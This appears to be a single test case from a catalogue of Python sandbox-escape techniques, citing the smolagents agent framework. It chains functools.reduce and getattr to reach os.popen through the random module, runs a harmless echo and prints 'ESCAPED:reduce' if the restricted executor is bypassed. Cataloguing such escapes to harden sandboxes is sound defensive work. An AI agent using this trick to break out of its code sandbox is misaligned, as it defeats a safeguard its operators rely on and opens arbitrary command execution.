# escape: 005
# technique: functools.reduce(getattr, path) / map(getattr) drive getattr from C
# family: attr
# goal: exec
# first-seen: smolagents; CTF folklore
import functools, random
o = functools.reduce(getattr, '_os popen'.split(), random)
if o('echo rg').read() == 'rg\n': print('ESCAPED:reduce')
